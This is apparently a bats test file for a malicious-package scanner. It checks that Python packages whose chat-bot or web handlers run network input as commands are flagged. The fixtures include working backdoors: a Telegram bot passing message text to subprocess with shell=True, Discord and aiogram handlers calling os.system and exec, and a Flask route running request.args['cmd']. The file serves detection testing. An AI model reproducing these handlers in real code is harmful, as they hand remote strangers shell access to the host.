#!/usr/bin/env bats
# 49e-recall5.bats: recall, part 5 (issue 11): functions registered as event handlers
# (`@bot.message_handler(...)`, `@client.event`, `@app.route`) run once the event loop that
# calls them is started (`bot.polling()`, `client.run()`), and their arguments come from the
# network; repository directories (utils/, tools/) that the setup installs as packages are
# installed code — each with the benign look-alikes that must not fire.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p p; }

# hits DIR DETECTION...: "path line detection context score" of those hits, sorted.
hits() {
	local dir=$1
	shift
	local want
	want=$(printf '%s\n' "$@" | jq -R . | jq -sc .)
	aura-fetch "$dir" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --argjson want "$want" 'select(.type == "hit" and (.detection as $d | $want | index($d))) |
			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
}

# risk DIR: the package's risk level as aura scan reports it.
risk() {
	aura scan --format json "$1" | jq -r 'select(.type == "verdict") | .risk'
}

@test "a chat bot started at import time whose handler runs the message as a shell command: RemoteCommand at import, risk high" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import subprocess
import telebot

bot = telebot.TeleBot("123:abc")

@bot.message_handler(content_types=["text"])
def handle(message):
    command = message.text.strip()
    out = subprocess.check_output(command, shell=True, text=True)
    bot.reply_to(message, out)

def not_a_handler(message):
    subprocess.check_output(message, shell=True)

bot.infinity_polling()
PY
	run hits p RemoteCommand ProcessExecution
	assert_output "$(printf '%s\n' \
		'pkg/__init__.py 13 ProcessExecution function 2' \
		'pkg/__init__.py 9 ProcessExecution import 40' \
		'pkg/__init__.py 9 RemoteCommand import 120')"
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "discord @client.event and aiogram's executor.start_polling(dp) start their handlers too" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import os
import discord
from aiogram import Dispatcher, executor

client = discord.Client()
dp = Dispatcher(None)

@client.event
async def on_message(message):
    os.system(message.content)

@dp.message_handler()
async def echo(msg):
    exec(msg.text)

executor.start_polling(dp)
client.run("token")
PY
	run hits p RemoteCommand
	assert_output "$(printf '%s\n' \
		'pkg/__init__.py 10 RemoteCommand import 120' \
		'pkg/__init__.py 14 RemoteCommand import 120')"
}

@test "a Flask app whose routes do ordinary work, run only under __main__: no RemoteCommand, nothing at import time" {
	mkdir -p p/app
	cat > p/app/__init__.py <<'PY'
import json
import subprocess
from flask import Flask, request

app = Flask(__name__)

@app.route("/items/<name>")
def item(name):
    return json.dumps({"name": name, "q": request.args.get("q", "")})

@app.route("/version")
def version():
    return subprocess.check_output(["git", "describe", "--tags"], text=True)

if __name__ == "__main__":
    app.run(debug=True)
PY
	run hits p RemoteCommand ProcessExecution
	assert_output "app/__init__.py 13 ProcessExecution function 1"
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "a handler that runs its request as a command, in an app nothing starts: RemoteCommand only at the function score" {
	mkdir -p p/app
	cat > p/app/__init__.py <<'PY'
import os
from flask import Flask, request

app = Flask(__name__)

@app.route("/run")
def run_it():
    os.system(request.args["cmd"])

def main():
    app.run()
PY
	run hits p RemoteCommand
	assert_output "app/__init__.py 8 RemoteCommand function 10"
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "a decorator on a module (@functools.lru_cache) registers nothing: asyncio.run() does not reach it" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import asyncio
import functools
import subprocess

@functools.lru_cache(maxsize=None)
def tool_version(tool):
    return subprocess.check_output([tool, "--version"])

async def main():
    pass

asyncio.run(main())
PY
	run hits p RemoteCommand ProcessExecution
	assert_output "pkg/__init__.py 7 ProcessExecution function 2"
}
